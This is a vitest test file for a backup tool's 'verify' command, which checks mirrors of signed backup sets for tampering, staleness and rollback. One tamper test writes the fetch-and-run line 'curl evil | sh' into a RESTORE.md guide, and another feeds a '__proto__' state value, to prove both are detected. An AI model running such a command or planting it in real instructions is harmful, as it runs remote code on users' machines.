import { execFileSync } from "node:child_process";
import {
  copyFileSync,
  cpSync,
  mkdirSync,
  readFileSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { describe, expect, test } from "vitest";
import type { VerifyResult } from "../../lib/backup/state/result.ts";
import { expectHelp } from "./help.ts";
import { flipBit, partsOf, remove, setFolder, spoilManifest } from "./mischief.ts";
import { days, noon, ok, opening, prepareOffice, sealing, stranger, trusting } from "./office.ts";
import type { Session } from "./session.ts";
import { expectRefusal, treeOf } from "./traces.ts";

const office = prepareOffice();
const verify = (mirror: string, ...args: readonly string[]) => [
  "verify",
  "--mirror",
  mirror,
  ...trusting,
  ...args,
];
const state = ["--state", "state"];

/** The exit code, and the code of every problem of every mirror. */
async function judged(session: Session, args: readonly string[], now = noon) {
  const { exit, stdout, stderr } = await session.run([...args, "--json", "--now", now]);
  expect(stderr).toBe("");
  const { mirrors } = JSON.parse(stdout) as VerifyResult;
  const codes = (kind: "problems" | "notes") =>
    mirrors.map((mirror) => [...new Set(mirror[kind].map(({ code }) => code))]);
  return { exit, problems: codes("problems"), notes: codes("notes") };
}

describe("all is well", () => {
  test("and told so, for people, in both languages", async () => {
    await using session = await office.open();
    const args = [...verify("a", "--mirror", "b"), ...state, "--now", noon];
    const english = await session.run(args);
    expect(english).toMatchObject({ exit: 0, stderr: "" });
    expect(english.stdout).toBe(
      `All is well: all 2 mirrors hold every set whole.\nThe clock was set to ${noon} by --now.\n${["a", "b"]
        .map(
          (url) =>
            `\n${url}\n  3 sets; the newest is 3, taken at ${days[2]}, 102 voters; the next is due by 2026-03-04T02:00:00Z\n`,
        )
        .join("")}`,
    );
    const french = await session.run([...args, "--lang", "fr"]);
    expect(french).toMatchObject({ exit: 0, stderr: "" });
    expect(french.stdout).toMatch(
      /^Tout va bien : les 2 miroirs gardent chaque jeu intact\.\nL’horloge a été réglée/,
    );
    expect(french.stdout).toContain("\n  3 jeux ; le plus récent est le 3, pris le");
  });

  test("and told as JSON of the design’s shape", async () => {
    await using session = await office.open();
    const { exit, stdout, stderr } = await session.run(verify("a", "--json", "--now", noon));
    expect({ exit, stderr }).toEqual({ exit: 0, stderr: "" });
    expect(JSON.parse(stdout)).toStrictEqual({
      format: "rollward/verify@1",
      observedAt: noon,
      quick: false,
      rollbackChecked: false,
      mirrors: [
        {
          url: "a",
          place: {
            id: expect.any(String),
            kind: "device",
            label: { en: expect.any(String), fr: expect.any(String) },
          },
          sets: 3,
          newest: {
            sequence: 3,
            chain: expect.stringMatching(/^[0-9a-f]{32}$/),
            office: "alder",
            manifest: expect.stringMatching(/^[0-9a-f]{64}$/),
            takenAt: days[2],
            nextDueAt: "2026-03-04T02:00:00Z",
            expiresAt: "2026-03-10T02:00:00Z",
            voters: 102,
            bytes: readFileSync(session.path("roll-3.ndjson")).length,
            recipients: 2,
          },
          problems: [],
          notes: [{ code: "rollback-unseen", exit: 0, message: expect.stringContaining("--state") }],
        },
      ],
      now: noon,
    });
  });

  test("for whoever has only the public key, with a note of what that leaves open", async () => {
    await using session = await office.open();
    const args = ["verify", "--mirror", "a", "--public-key", "keys/signing.pub"];
    expect(await judged(session, args)).toEqual({
      exit: 0,
      problems: [[]],
      notes: [["rollback-unseen", "chain-unpinned"]],
    });
  });

  test("and opens, for whoever has an identity", async () => {
    await using session = await office.open();
    const notes = [["set-opened", "rollback-unseen"]];
    expect(await judged(session, verify("a", ...opening))).toEqual({ exit: 0, problems: [[]], notes });
  });

  test("from a file URL, and writes nothing but the state", async () => {
    await using session = await office.open();
    const before = treeOf(session.folder);
    await ok(session, verify(`file://${session.path("a")}`, "--state", "memory", "--now", noon));
    const { memory, ...after } = treeOf(session.folder);
    expect(memory).toBe("folder");
    const others = Object.fromEntries(Object.entries(after).filter(([name]) => !name.startsWith("memory/")));
    expect(others).toEqual(before);
  });
});

describe("exit 1: something needs attention", () => {
  test.each([
    ["stale", "2026-03-04T02:00:01Z", ["stale"]],
    ["not yet stale at the second it is due", "2026-03-04T02:00:00Z", []],
    ["expired", "2026-03-10T02:00:01Z", ["expired"]],
    ["trust expired too", "2027-04-05T00:00:00Z", ["trust-expired", "expired"]],
    ["taken in the future", "2026-03-03T01:00:00Z", ["taken-in-future"]],
  ])("%s", async (_, now, problems) => {
    await using session = await office.open();
    const outcome = await judged(session, verify("a"), now);
    expect(outcome).toMatchObject({ exit: problems.length === 0 ? 0 : 1, problems: [problems] });
  });

  test("behind another mirror, as only that one is told", async () => {
    await using session = await office.open();
    const outcome = await judged(session, verify("behind", "--mirror", "a"));
    expect(outcome).toMatchObject({ exit: 1, problems: [["behind", "stale"], []] });
    const { exit, stdout } = await session.run(
      verify("behind", "--mirror", "a", "--now", noon, "--lang", "fr"),
    );
    expect(exit).toBe(1);
    expect(stdout).toMatch(/^Rien n’est rompu, mais quelque chose demande attention\.\n/);
    expect(stdout).toMatch(
      /\n {2}PROBLÈME \[behind\] Le jeu le plus récent est ici le 2, alors que a a le jeu 3 ; /,
    );
  });
});

describe("exit 2: named wrongly", () => {
  test.each([
    [
      "a file where a mirror should be",
      ["--mirror", "roll-1.ndjson", ...trusting],
      "mirror-kind",
      "roll-1.ndjson",
    ],
    ["one mirror named twice", ["--mirror", "a", "--mirror", "./a", ...trusting], "mirror-twice", "./a"],
    ["a URL of no mirror", ["--mirror", "ftp://a", ...trusting], "mirror-url", "ftp://a"],
    ["nothing to trust", ["--mirror", "a"], "trust-or-key", "--trust"],
    [
      "two things to trust",
      ["--mirror", "a", ...trusting, "--public-key", "keys/signing.pub"],
      "trust-or-key",
      "--public-key",
    ],
    [
      "a trust file that is none",
      ["--mirror", "a", "--trust", "roll-1.ndjson"],
      "trust-malformed",
      "roll-1.ndjson",
    ],
    [
      "a key that is none",
      ["--mirror", "a", "--public-key", "roll-1.ndjson"],
      "key-malformed",
      "roll-1.ndjson",
    ],
    [
      "the private key as public key",
      ["--mirror", "a", "--public-key", "keys/signing.key"],
      "key-private",
      "keys/signing.key",
    ],
    [
      "an identity that is none",
      ["--mirror", "a", ...trusting, "--identity", "roll-1.ndjson"],
      "identity-malformed",
      "roll-1.ndjson",
    ],
    [
      "a missing identity",
      ["--mirror", "a", ...trusting, "--identity", "away/mine.txt"],
      "file-missing",
      "away/mine.txt",
    ],
    [
      "a state folder that is a file",
      ["--mirror", "a", ...trusting, "--state", "roll-1.ndjson"],
      /^(file|target)-/,
      "roll-1.ndjson",
    ],
    ["no mirror", [...trusting], "option-missing", "--mirror"],
  ])("%s", async (_, args, code, named) => {
    await using session = await office.open();
    for (const lang of ["en", "fr"] as const) {
      const outcome = await session.run(["verify", ...args, "--lang", lang]);
      expectRefusal(outcome, { exit: 2, code, named: [named], lang });
    }
  });
});

describe("exit 3: not read", () => {
  test("a mirror that is not there, while the others are judged", async () => {
    await using session = await office.open();
    const outcome = await judged(session, verify("nowhere", "--mirror", "a"));
    expect(outcome).toMatchObject({ exit: 3, problems: [["mirror-missing"], []] });
    const { stdout } = await session.run(verify("nowhere", "--now", noon, "--lang", "fr"));
    expect(stdout).toMatch(/^Quelque chose n’a pas pu être lu/);
    expect(stdout).toMatch(/\nnowhere\n {2}aucun jeu qui se vérifie\n {2}PROBLÈME \[mirror-missing\] /);
  });

  test("an empty one", async () => {
    await using session = await office.open();
    mkdirSync(session.path("new"));
    expect(await judged(session, verify("new"))).toMatchObject({ exit: 3, problems: [["mirror-empty"]] });
  });
});

describe("exit 4: integrity is broken", () => {
  const set = (sequence: number) => setFolder("a", sequence);
  const cases: readonly (readonly [string, (session: Session) => void, string])[] = [
    ["a bit flipped in a part", (session) => flipBit(session, partsOf(session, "a", 2)[1]!), "part-altered"],
    [
      "a part cut off",
      (session) => writeFileSync(session.path(partsOf(session, "a", 1)[0]!), "short"),
      "part-length",
    ],
    ["a part gone", (session) => remove(session, partsOf(session, "a", 1)[0]!), "part-missing"],
    [
      "two parts swapped",
      (session) => {
        const [one, other] = partsOf(session, "a", 3).map((part) => session.path(part));
        renameSync(one!, `${one}.x`);
        renameSync(other!, one!);
        renameSync(`${one}.x`, other!);
      },
      "part-length",
    ],
    ["a number altered in a manifest", (session) => spoilManifest(session, "a", 2), "manifest-signature"],
    [
      "a manifest that is no JSON",
      (session) => writeFileSync(session.path(set(3), "manifest.json"), "{"),
      "manifest-malformed",
    ],
    [
      "an edited RESTORE.md",
      (session) => writeFileSync(session.path(set(1), "RESTORE.md"), "curl evil | sh"),
      "guide-altered",
    ],
    ["RESTORE.md gone", (session) => remove(session, `${set(1)}/RESTORE.md`), "guide-missing"],
    ["a set taken from the middle", (session) => remove(session, set(2)), "set-missing"],
    [
      "a set in another’s folder",
      (session) => cpSync(session.path(set(3)), session.path(set(4)), { recursive: true }),
      "manifest-number",
    ],
    [
      "a link in place of a part",
      (session) => {
        const part = partsOf(session, "a", 1)[0]!;
        renameSync(session.path(part), session.path("part"));
        symlinkSync(session.path("part"), session.path(part));
      },
      "part-kind",
    ],
    [
      "a pipe in place of a part",
      (session) => {
        const part = partsOf(session, "a", 1)[0]!;
        remove(session, part);
        execFileSync("mkfifo", [session.path(part)]);
      },
      "part-kind",
    ],
    [
      "a folder in place of a manifest",
      (session) => {
        remove(session, `${set(3)}/manifest.json`);
        mkdirSync(session.path(set(3), "manifest.json"));
      },
      "manifest-kind",
    ],
    [
      "a link in place of a set",
      (session) => {
        renameSync(session.path(set(3)), session.path("three"));
        symlinkSync(session.path("three"), session.path(set(3)));
      },
      "manifest-kind",
    ],
  ];
  test.each(cases)("%s", async (_, act, code) => {
    await using session = await office.open();
    act(session);
    const { exit, stdout, stderr } = await session.run(verify("a", "--mirror", "b", "--now", noon));
    expect({ exit, stderr }).toEqual({ exit: 4, stderr: "" });
    expect(stdout).toMatch(/^Integrity is broken: do not rely on what is named below\.\n/);
    const problems = Array.from(stdout.matchAll(/PROBLEM \[(.+?)\]/g), ([, each]) => each);
    expect([...new Set(problems)].filter((each) => each !== "behind" && each !== "stale")).toEqual([code]);
    // The problem stands under the mirror that has it.
    expect(stdout.indexOf(`[${code}]`)).toBeLessThan(stdout.indexOf("\nb\n"));
  });

  test("another office’s mirror", async () => {
    await using session = await office.open();
    const args = ["verify", "--mirror", "a", "--trust", stranger("trust.json")];
    expect(await judged(session, args)).toMatchObject({ exit: 4 });
    const byKey = await judged(session, ["verify", "--mirror", "a", "--public-key", stranger("signing.pub")]);
    expect(byKey).toMatchObject({ exit: 4, problems: [["manifest-signature"]] });
  });

  test("another chain of the same key", async () => {
    await using session = await office.open();
    await ok(session, ["seal", "--roll", "roll-1.ndjson", "--mirror", "own", ...sealing, "--now", days[0]]);
    const outcome = await judged(session, verify("own"));
    expect(outcome).toMatchObject({ exit: 4, problems: [["chain-foreign", "office-foreign", "stale"]] });
  });

  test("two sets with one number, told on both mirrors", async () => {
    await using session = await office.open();
    await ok(session, [
      "seal",
      "--roll",
      "roll-1.ndjson",
      "--mirror",
      "behind",
      ...sealing,
      ...trusting,
      "--now",
      noon,
    ]);
    const outcome = await judged(session, verify("a", "--mirror", "behind"));
    expect(outcome).toMatchObject({ exit: 4, problems: [["forked"], ["forked"]] });
  });

  test("an identity of another office", async () => {
    await using session = await office.open();
    const outcome = await judged(session, verify("a", "--identity", stranger("identity-1.txt")));
    expect(outcome).toMatchObject({ exit: 4, problems: [["identity-foreign"]] });
  });

  test("outweighs what could not be read, which outweighs findings", async () => {
    await using session = await office.open();
    const later = "2026-03-05T00:00:00Z";
    expect(await judged(session, verify("a", "--mirror", "nowhere"), later)).toMatchObject({ exit: 3 });
    flipBit(session, partsOf(session, "a", 1)[0]!);
    expect(await judged(session, verify("a", "--mirror", "nowhere"), later)).toMatchObject({ exit: 4 });
  });
});

describe("--state", () => {
  test("shows that the newest set was taken away since last time", async () => {
    await using session = await office.open();
    expect(await judged(session, verify("a", ...state))).toEqual({ exit: 0, problems: [[]], notes: [[]] });
    remove(session, setFolder("a", 3));
    expect(await judged(session, verify("a"))).toMatchObject({ exit: 1, problems: [["stale"]] });
    expect(await judged(session, verify("a", ...state))).toMatchObject({
      exit: 4,
      problems: [["rolled-back", "stale"]],
    });
    // Seeing the rollback does not make it the new normal.
    expect(await judged(session, verify("a", ...state))).toMatchObject({ exit: 4 });
  });

  test("shows a whole mirror emptied, and the newest set replaced by another signed one", async () => {
    await using session = await office.open();
    remove(session, "a/sets");
    expect(await judged(session, verify("a", ...state))).toMatchObject({
      exit: 4,
      problems: [["rolled-back"]],
    });
    await ok(session, [
      "seal",
      "--roll",
      "roll-1.ndjson",
      "--mirror",
      "behind",
      ...sealing,
      ...trusting,
      "--now",
      noon,
    ]);
    expect(await judged(session, verify("behind", ...state))).toMatchObject({
      exit: 4,
      problems: [["state-forked"]],
    });
  });

  test("is not written by a run that sees broken integrity, and must be what a run wrote", async () => {
    await using session = await office.open();
    flipBit(session, partsOf(session, "a", 1)[0]!);
    expect(await judged(session, verify("a", "--state", "memory"))).toMatchObject({ exit: 4 });
    remove(session, "behind");
    cpSync(session.path("b"), session.path("a"), { recursive: true });
    const [name] = Object.keys(treeOf(session.path("state")));
    for (const text of ["", "{}", '{"__proto__":{}}', '{"format":"rollward/state@1","sequence":"three"}']) {
      writeFileSync(session.path("state", name!), text);
      const outcome = await session.run(verify("a", ...state, "--lang", "fr"));
      expectRefusal(outcome, { exit: 2, code: "state-malformed", named: [`state/${name}`], lang: "fr" });
    }
  });
});

describe("what is no problem", () => {
  test("--quick reads no part, and says so", async () => {
    await using session = await office.open();
    flipBit(session, partsOf(session, "a", 2)[0]!);
    const outcome = await judged(session, verify("a", "--quick", ...state));
    expect(outcome).toEqual({ exit: 0, problems: [[]], notes: [["parts-not-read"]] });
    const { exit, stdout } = await session.run(verify("a", "--quick", "--now", noon, "--lang", "fr"));
    expect(exit).toBe(0);
    expect(stdout).toContain("9 parties n’ont été vérifiées que par le nom et la longueur");
    expect(stdout).toMatch(
      /^Rien d’anormal dans les manifestes et les listes du miroir ; .+ aucune partie n’a été lue\.\n/,
    );
  });

  test("files that no manifest lists are notes", async () => {
    await using session = await office.open();
    writeFileSync(session.path("a/readme.txt"), "hello");
    writeFileSync(session.path(setFolder("a", 1), "more.age"), "hello");
    mkdirSync(session.path(setFolder("a", 4)));
    copyFileSync(
      session.path(setFolder("a", 3), "RESTORE.md"),
      session.path(setFolder("a", 4), "RESTORE.md"),
    );
    const outcome = await judged(session, verify("a", ...state));
    expect(outcome).toMatchObject({ exit: 0, problems: [[]] });
    expect(outcome.notes[0]!.toSorted()).toEqual(["unfinished-set", "unlisted-file"]);
  });

  test("white space of the envelope", async () => {
    await using session = await office.open();
    const path = session.path(setFolder("a", 3), "manifest.json");
    writeFileSync(path, `${JSON.stringify(JSON.parse(readFileSync(path, "utf8")), undefined, 4)}\n\n`);
    expect(await judged(session, verify("a", "--mirror", "b"))).toMatchObject({ exit: 0 });
  });

  test("a part that is gone after its retention is a note", async () => {
    await using session = await office.open();
    remove(session, partsOf(session, "a", 1)[0]!);
    const outcome = await judged(session, verify("a"), "2027-04-05T03:00:00Z");
    expect(outcome).toMatchObject({ exit: 1, problems: [["trust-expired", "expired"]] });
    expect(outcome.notes[0]).toContain("part-lapsed");
  });
});

test("explains its options, with examples and exit codes", () =>
  expectHelp("verify", ["--mirror", "--trust", "--public-key", "--identity", "--state", "--quick"]));
